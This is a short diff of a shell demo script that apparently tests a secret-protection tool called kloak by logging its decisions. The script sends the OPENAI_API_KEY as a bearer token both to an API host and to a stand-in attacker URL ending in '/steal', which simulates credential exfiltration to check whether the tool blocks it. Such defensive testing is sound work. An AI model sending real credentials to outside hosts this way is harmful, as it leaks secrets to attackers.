@@ -58,7 +58,10 @@ unshare -m sh -c 'mount --bind "$0" /etc/resolv.conf && exec "$@"' "$work/resolv
     echo "app sees:   OPENAI_API_KEY=$OPENAI_API_KEY"
     curl -sS -m 10 -o /dev/null -H "Authorization: Bearer $OPENAI_API_KEY" https://api.example.test:8443/v1/models
     curl -sS -m 10 -o /dev/null -H "Authorization: Bearer $OPENAI_API_KEY" https://evil.example.test:8443/steal' \
-  2> >(grep --line-buffered '^kloak:' >&2)
+  2> "$work/kloak.log" || true
+echo
+echo "kloak's decisions:"
+grep -E '^(kloak|curl):' "$work/kloak.log" | sed 's/^/  /'
 
 auth() { python3 -c '
 import base64, json, sys
